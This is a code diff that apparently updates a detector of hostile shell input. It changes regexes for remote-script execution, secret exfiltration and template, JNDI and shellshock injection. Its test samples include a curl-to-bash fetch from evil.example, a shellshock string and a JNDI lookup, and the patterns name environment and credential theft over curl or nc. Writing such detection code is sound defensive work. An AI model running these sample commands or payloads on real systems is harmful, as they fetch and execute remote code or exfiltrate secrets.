@@ -24,7 +24,7 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
     description:
       'Fetches a script from an untrusted place and runs it, or sends the environment there.',
     expression:
-      '\\b(?:curl|wget)\\b[^|\\n]{0,40}(?:http://|\\b(?:evil|attacker|malicious|hacker|pwn)[a-z0-9.-]*|//\\d{1,3}\\.\\d{1,3}\\.)[^|\\n]{0,100}\\| ?(?:sudo )?(?:ba|z|da|k)?sh\\b|\\bpowershell(?:\\.exe)?\\b.{0,80}(?: -enc?(?:odedcommand)? |-w(?:indowstyle)? hidden|downloadstring|frombase64string|\\biex\\b)|\\biex ?\\(|\\bcurl\\b[^\\n]{0,80}(?:\\$\\((?:env|cat|whoami|id|printenv|ls)|`(?:env|cat|whoami|id)\\b|@/etc/|@~/\\.|=\\$\\(|\\$\\{?(?:aws|openai|secret|token|api ?key|password))|\\b(?:env|printenv|cat [~/.\\w]{2,30}) ?\\| ?(?:base64 ?\\| ?)?(?:curl|nc|wget)\\b|\\bcurl\\b[^\\n]{0,40}\\b(?:evil|attacker|malicious|hacker)[a-z0-9-]*\\.',
+      '\\b(?:curl|wget)\\b[^|\\n]{0,40}(?:http://|\\b(?:evil|attacker|malicious|hacker|pwn)[a-z0-9.-]*|//\\d{1,3}\\.\\d{1,3}\\.)[^|\\n]{0,100}\\| ?(?:sudo )?(?:ba|z|da|k)?sh\\b|\\bpowershell(?:\\.exe)?\\b.{0,80}(?: -enc?(?:odedcommand)? |-w(?:indowstyle)? hidden|downloadstring|frombase64string|\\biex\\b)|\\biex ?\\(|\\bcurl\\b[^\\n]{0,80}(?:\\$\\((?:env|cat|whoami|id|printenv|ls)|`(?:env|cat|whoami|id)\\b|@/etc/|@~/\\.|=\\$\\(|\\$\\{?(?:aws|openai|secret|token|api ?key|password))|\\b(?:env|printenv|cat [^|\\n]{2,40}) ?\\| ?(?:base64 ?\\| ?)?(?:curl|nc|wget)\\b|\\bcurl\\b[^\\n]{0,40}\\b(?:evil|attacker|malicious|hacker)[a-z0-9-]*\\.',
     gates: [{ word: 'fetch_command' }],
     hits: [
       'curl http://evil.example/i.sh | bash',
@@ -97,7 +97,7 @@ export const SHELL_PATTERNS: readonly Pattern[] = [
     description:
       'Syntax that only a payload has: shellshock, server-side includes, template and JNDI injection.',
     expression:
-      '\\(\\) ?\\{ ?:; ?\\} ?;|<!--#(?:exec|include)|\\$\\{jndi:|\\$\\{ifs\\}|\\{\\{ ?(?:7 ?\\* ?[\'"]?7|config\\.|self\\.|[\'"]{2}\\.|cycler|lipsum|exec ?["\'(\\\\]|request\\.application|import ?\\()|\\$\\{(?:7\\*7|@print|t\\(java)|\\{\\$\\{|<\\?php\\b.{0,30}\\b(?:system|exec|eval|passthru|shell exec)\\b|<\\?php\\b.{0,10}\\binclude ?\\(? ?\\$ ?get|%systemroot%\\\\?(?:repair|system32)|\\bc:\\\\boot\\.ini|\\bxp cmdshell\\b|\\bhkey local machine\\b.{0,40}\\b(?:run|add|terminal)|\\bjavascript:(?:fetch|eval)\\(|\\$\\(`|\\bglobals ?\\(\\) ?\\[|\\\\033\\[2',
+      '\\(\\) ?\\{ ?:; ?\\} ?;|<!--#(?:exec|include)|\\$\\{jndi:|\\$\\{ifs\\}|\\{\\{ ?(?:7 ?\\* ?[\'"]?7|config\\.(?:items|from|class|_)|self\\. ?_?(?:init|class|templ)|[\'"]{2}\\.|cycler|lipsum|exec ?["\'(\\\\]|request\\.application|import ?\\()|\\$\\{(?:7\\*7|@print|t\\(java)|\\{\\$\\{|<\\?php\\b.{0,30}\\b(?:system|exec|eval|passthru|shell exec)\\b|<\\?php\\b.{0,10}\\binclude ?\\(? ?\\$ ?get|%systemroot%\\\\?(?:repair|system32)|\\bc:\\\\boot\\.ini|\\bxp cmdshell\\b|\\bhkey local machine\\b.{0,40}\\b(?:run|add|terminal)|\\bjavascript:(?:fetch|eval)\\(|\\$\\(`|\\bglobals ?\\(\\) ?\\[|\\\\033\\[2',
     gates: [{ word: 'payload_word' }, { word: 'brace_word', after: '{(`' }],
     hits: ['() { :;}; /bin/sh -c id', '${jndi:ldap://x}', "{{ 7*'7' }}", '<!--#exec cmd="ls" -->'],
     misses: ['{{ name }}', '<?php echo $title; ?>', '${HOME}/bin'],
